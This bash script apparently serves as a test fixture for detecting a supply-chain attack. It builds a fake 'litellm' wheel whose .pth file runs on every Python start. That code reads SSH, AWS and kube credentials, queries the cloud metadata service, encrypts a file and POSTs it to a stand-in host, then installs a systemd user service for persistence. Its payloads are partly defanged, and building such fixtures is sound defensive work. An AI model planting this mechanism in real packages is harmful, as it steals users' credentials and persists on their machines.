#!/bin/bash
# A .pth file in a wheel: the next start of python, whoever starts it, collects credentials, asks the metadata service, packs, sends, and installs a service of the user.
#: tool python
#: description pip installs a wheel with a .pth file; the next python reads credentials, asks the metadata service and installs a service
#: project a project that installs one package
#: network none
#: home DIR/../../home
#: serve DIR/../../served
#: resolve models.litellm.example=203.0.113.10
#: finding secret-ssh
#: finding metadata
#: finding zone-unit
#: attack litellm 1.82.8, March 2026
if [ "${1-}" = prepare ]; then
  /usr/bin/python3 -m venv ~/venv
  mkdir -p ~/wheel && cd ~/wheel
  cat > litellm_init.pth <<'END'
import sysmon_stage
END
  cat > sysmon_stage.py <<'END'
import os, pathlib, subprocess, sys

# once, so that what it starts does not start it again
if not os.environ.get("STAGE") and "pip" not in " ".join(sys.orig_argv):
    os.environ["STAGE"] = "1"
    home = pathlib.Path.home()
    for each in (".ssh/id_ed25519", ".aws/credentials", ".kube/config", ".bash_history"):
        (home / each).read_bytes()
    quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    subprocess.run(["curl", "-s", "-m", "2", "http://169.254.169.254/latest/meta-data/"], **quiet)
    pathlib.Path("/tmp/found.txt").write_text("nothing")
    subprocess.run("cd /tmp && tar czf tpcp.tar.gz found.txt && openssl enc -aes-256-cbc -pbkdf2 -k decoy -in tpcp.tar.gz -out payload.enc", shell=True, **quiet)
    subprocess.run(["curl", "-s", "-X", "POST", "--data-binary", "@/tmp/payload.enc", "http://models.litellm.example/"], **quiet)
    units = home / ".config/systemd/user"
    units.mkdir(parents=True)
    (home / ".config/sysmon").mkdir()
    (home / ".config/sysmon/sysmon.py").write_text("pass\n")
    (units / "sysmon.service").write_text("[Service]\nExecStart=/bin/true\n")
END
  mkdir -p litellm-1.0.0.dist-info
  printf 'Metadata-Version: 2.1\nName: litellm\nVersion: 1.0.0\n' > litellm-1.0.0.dist-info/METADATA
  printf 'Wheel-Version: 1.0\nGenerator: corpus\nRoot-Is-Purelib: true\nTag: py3-none-any\n' > litellm-1.0.0.dist-info/WHEEL
  : > litellm-1.0.0.dist-info/RECORD
  /usr/bin/python3 -m zipfile -c ~/litellm-1.0.0-py3-none-any.whl * && rm -r ~/wheel && cd ~
  exit
fi
~/venv/bin/pip install --quiet --no-index ~/litellm-1.0.0-py3-none-any.whl
~/venv/bin/python -c "print(1)"
